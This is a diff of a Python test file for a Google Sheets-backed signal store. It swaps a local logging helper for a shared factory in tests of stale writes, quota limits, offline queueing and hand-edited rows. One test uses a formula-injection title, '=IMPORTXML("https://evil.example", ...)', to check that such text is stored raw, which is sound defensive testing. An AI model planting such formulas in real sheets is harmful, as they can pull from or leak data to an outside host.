@@ -9,11 +9,12 @@ from sqlmodel import select
 from cxos.errors import StaleWrite
 from cxos.journey.map import load_journey_template, touchpoint_options
 from cxos.models import Event, Signal, Team
-from cxos.signals.writes import create_signal, update_signal
+from cxos.signals.writes import update_signal
 from cxos.store.sheets.api import connect
 from cxos.store.sheets.fake_api import FakeSheetsServer
 from cxos.store.sheets.store import _parse
 from tests.conftest import ADMIN, CONTRIBUTOR, open_fake_sheets_store, table_checksums
+from tests.factories import log_signal
 
 SHEET = "book"
 
@@ -51,14 +52,6 @@ def _touchpoint(store) -> int:
         return touchpoint_options(session)[0].id
 
 
-def _log(store, title: str = "SSO users missing after sync") -> Signal:
-    return create_signal(
-        store,
-        signal_in={"title": title, "source": "ticket", "touchpoint_id": _touchpoint(store)},
-        actor=CONTRIBUTOR,
-    )
-
-
 def _sheet_rows(server, title: str) -> list[dict]:
     rows = server.rows(SHEET, title)
     header = rows[0]
@@ -72,7 +65,7 @@ def _signal_row(server, signal_id: int) -> tuple[int, dict]:
 
 
 def test_a_logged_signal_lands_in_its_worksheet_with_its_event(sheet_store, server):
-    signal = _log(sheet_store)
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     _, row = _signal_row(server, signal.id)
     assert row["title"] == "SSO users missing after sync" and row["created_by"] == CONTRIBUTOR.name
     events = [
@@ -82,7 +75,9 @@ def test_a_logged_signal_lands_in_its_worksheet_with_its_event(sheet_store, serv
 
 
 def test_text_that_looks_like_a_formula_is_stored_as_text_and_every_write_is_raw(sheet_store, server):
-    signal = _log(sheet_store, title='=IMPORTXML("https://evil.example", "//a")')
+    signal = log_signal(
+        sheet_store, touchpoint_id=_touchpoint(sheet_store), title='=IMPORTXML("https://evil.example", "//a")'
+    )
     _, row = _signal_row(server, signal.id)
     assert row["title"] == '=IMPORTXML("https://evil.example", "//a")'
     appends = [r for r in server.log if r.path.endswith(":append")]
@@ -93,7 +88,7 @@ def test_text_that_looks_like_a_formula_is_stored_as_text_and_every_write_is_raw
 def test_a_row_changed_in_the_sheet_refuses_the_stale_update_and_keeps_the_sheets_version(
     sheet_store, server
 ):
-    signal = _log(sheet_store)
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     number, row = _signal_row(server, signal.id)
     title_col = server.rows(SHEET, "signal")[0].index("title") + 1
     server.set_cell(SHEET, "signal", number, title_col, "Edited by hand in the sheet")  # a person, in Sheets
@@ -113,7 +108,7 @@ def test_a_row_changed_in_the_sheet_refuses_the_stale_update_and_keeps_the_sheet
 
 
 def test_an_update_after_a_fresh_read_goes_through(sheet_store, server):
-    signal = _log(sheet_store)
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     number, _ = _signal_row(server, signal.id)
     server.set_cell(SHEET, "signal", number, server.rows(SHEET, "signal")[0].index("account") + 1, "Acme")
     sheet_store.refresh(force=True)
@@ -128,7 +123,8 @@ def test_quota_exhausted_the_write_is_kept_and_queued_then_sent(sheet_store, ser
     sleeps = []
     sheet_store.api.sleep = sleeps.append
     server.fail_next(3, 429)  # the first attempt and both retries
-    signal = _log(sheet_store)  # acknowledged: stored in the working copy
+    # acknowledged: stored in the working copy
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     assert sleeps == [1.0, 2.0]  # backed off before giving up
     assert sheet_store.status.queued >= 2 and "quota" in sheet_store.status.problem
     assert signal.id not in [r["id"] for r in _sheet_rows(server, "signal")]
@@ -144,7 +140,7 @@ def test_sixty_writes_a_minute_the_sixty_first_change_waits_for_the_next_minute(
 ):
     writes_before = server.count("write")
     for number in range(60 - writes_before % 60 + 5):
-        _log(sheet_store, title=f"Quota probe {number}")
+        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Quota probe {number}")
     assert sheet_store.status.queued > 0  # Google's per-minute limit reached: later changes wait, none lost
     clock.now += 61
     sheet_store.refresh(force=True)
@@ -155,13 +151,13 @@ def test_sixty_writes_a_minute_the_sixty_first_change_waits_for_the_next_minute(
 
 
 def test_offline_the_app_reads_its_copy_and_queues_writes_until_sheets_answers(sheet_store, server):
-    first = _log(sheet_store)
+    first = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     server.offline = True
     status = sheet_store.refresh(force=True)
     assert not status.reachable and "cannot be reached" in status.problem
     with sheet_store.read() as session:  # still readable from the copy
         assert session.get(Signal, first.id).title == first.title
-    second = _log(sheet_store, title="Logged while offline")
+    second = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Logged while offline")
     assert sheet_store.status.queued >= 2
     server.offline = False
     sheet_store.refresh(force=True)
@@ -173,11 +169,13 @@ def test_two_app_instances_adding_at_once_lose_nothing(server, sheets_key, tmp_p
     one = open_fake_sheets_store(server, sheets_key, tmp_path / "one.db", SHEET, ttl_s=3600)
     load_journey_template(one, actor=ADMIN)
     two = open_fake_sheets_store(server, sheets_key, tmp_path / "two.db", SHEET, ttl_s=3600)
-    _log(one, title="Logged on instance one")
+    log_signal(one, touchpoint_id=_touchpoint(one), title="Logged on instance one")
     # Instance two has not re-read the sheet, so it picks the same next id: the sheet tells it so.
     with pytest.raises(StaleWrite, match="also added to the sheet by someone else"):
-        _log(two, title="Logged on instance two")
-    again = _log(two, title="Logged on instance two")  # the retry reads the sheet first
+        log_signal(two, touchpoint_id=_touchpoint(two), title="Logged on instance two")
+    again = log_signal(
+        two, touchpoint_id=_touchpoint(two), title="Logged on instance two"
+    )  # the retry reads the sheet first
     titles = sorted(r["title"] for r in _sheet_rows(server, "signal"))
     assert titles == ["Logged on instance one", "Logged on instance two"] and again.id == 2
 
@@ -206,7 +204,7 @@ def test_concurrent_appends_through_two_clients_never_overwrite_each_other(serve
 
 
 def test_a_column_a_person_adds_to_a_worksheet_survives_the_apps_updates(sheet_store, server):
-    signal = _log(sheet_store)
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     header = server.rows(SHEET, "signal")[0]
     notes_col = len(header) + 1
     server.spreadsheets[SHEET]["signal"].column_count += 1  # the person inserts a column at the end
@@ -235,7 +233,7 @@ def test_a_deleted_record_keeps_its_row_so_no_other_row_moves(sheet_store, serve
 
 
 def test_rows_a_person_broke_are_reported_by_row_number_not_silently_dropped(sheet_store, server):
-    signal = _log(sheet_store)
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     number, _ = _signal_row(server, signal.id)
     server.set_cell(
         SHEET, "signal", number, server.rows(SHEET, "signal")[0].index("touchpoint_id") + 1, "abc"
@@ -285,7 +283,9 @@ def test_sheet_addresses_people_paste_are_understood(url, expected):
 def test_a_bulk_triage_is_one_batch_of_requests_and_a_conflict_in_it_is_set_aside(sheet_store, server):
     from cxos.council.triage import bulk_triage
 
-    made = [_log(sheet_store, title=f"Bulk {n}") for n in range(20)]
+    made = [
+        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Bulk {n}") for n in range(20)
+    ]
     number, _ = _signal_row(server, made[0].id)
     server.set_cell(
         SHEET, "signal", number, server.rows(SHEET, "signal")[0].index("account") + 1, "Typed in Sheets"
@@ -312,7 +312,9 @@ def test_a_bulk_triage_is_one_batch_of_requests_and_a_conflict_in_it_is_set_asid
 def test_rows_sorted_in_the_sheet_are_found_by_id_and_the_right_row_is_updated(
     sheet_store, server, sheets_key, tmp_path
 ):
-    made = [_log(sheet_store, title=f"Signal {n}") for n in range(5)]
+    made = [
+        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Signal {n}") for n in range(5)
+    ]
     worksheet = server.spreadsheets[SHEET]["signal"]
     worksheet.rows[1:] = list(reversed(worksheet.rows[1:]))  # a person sorts the sheet, newest first
     update_signal(
@@ -327,7 +329,9 @@ def test_rows_sorted_in_the_sheet_are_found_by_id_and_the_right_row_is_updated(
 
 
 def test_a_row_a_person_deleted_from_the_sheet_refuses_the_update(sheet_store, server):
-    made = [_log(sheet_store, title=f"Signal {n}") for n in range(3)]
+    made = [
+        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title=f"Signal {n}") for n in range(3)
+    ]
     number, _ = _signal_row(server, made[0].id)
     del server.spreadsheets[SHEET]["signal"].rows[number - 1]
     with pytest.raises(StaleWrite, match="removed from the 'signal' sheet"):
@@ -381,7 +385,9 @@ def test_changes_queued_when_the_app_stopped_are_sent_when_it_starts_again(
 ):
     server.offline = True
     sheet_store.refresh(force=True)
-    queued = _log(sheet_store, title="Logged just before a restart")
+    queued = log_signal(
+        sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Logged just before a restart"
+    )
     assert sheet_store.status.queued > 0
     sheet_store.dispose()
     server.offline = False
@@ -408,7 +414,7 @@ def test_a_sign_in_google_refuses_or_cannot_answer_is_a_clear_status_not_a_crash
 
 @pytest.mark.parametrize("typed", ["inf", "nan", "1e400", "seven"])
 def test_whatever_a_person_types_into_an_id_cell_is_reported_not_a_crash(sheet_store, server, typed):
-    signal = _log(sheet_store)
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     number, _ = _signal_row(server, signal.id)
     server.set_cell(SHEET, "signal", number, 1, typed)
     status = sheet_store.refresh(force=True)
@@ -419,7 +425,7 @@ def test_any_cell_a_person_types_into_a_row_loads_or_is_reported_never_crashes(s
     from hypothesis import HealthCheck, given, settings
     from hypothesis import strategies as st
 
-    signal = _log(sheet_store)
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store))
     number, _ = _signal_row(server, signal.id)
     header = server.rows(SHEET, "signal")[0]
     cell = st.one_of(st.text(max_size=30), st.integers(), st.floats(allow_nan=True), st.booleans(), st.none())
@@ -444,7 +450,7 @@ def test_a_refusal_before_anything_is_sent_refuses_the_write_and_after_keeps_and
 
     server.fail_next(1, 403)  # the check read: nothing sent yet
     with pytest.raises(SheetsRefused, match="403"):
-        _log(sheet_store, title="Refused outright")
+        log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Refused outright")
     with sheet_store.read() as session:
         assert session.exec(select(Signal).where(Signal.title == "Refused outright")).first() is None
     real_append = sheet_store.api.append
@@ -457,7 +463,7 @@ def test_a_refusal_before_anything_is_sent_refuses_the_write_and_after_keeps_and
         return real_append(title, rows)
 
     sheet_store.api.append = refuse_second_append  # the event row lands, then the signal row is refused
-    signal = _log(sheet_store, title="Half sent")
+    signal = log_signal(sheet_store, touchpoint_id=_touchpoint(sheet_store), title="Half sent")
     assert sheet_store.status.queued == 1 and "403" in sheet_store.status.problem
     sheet_store.api.append = real_append
     sheet_store.refresh(force=True)
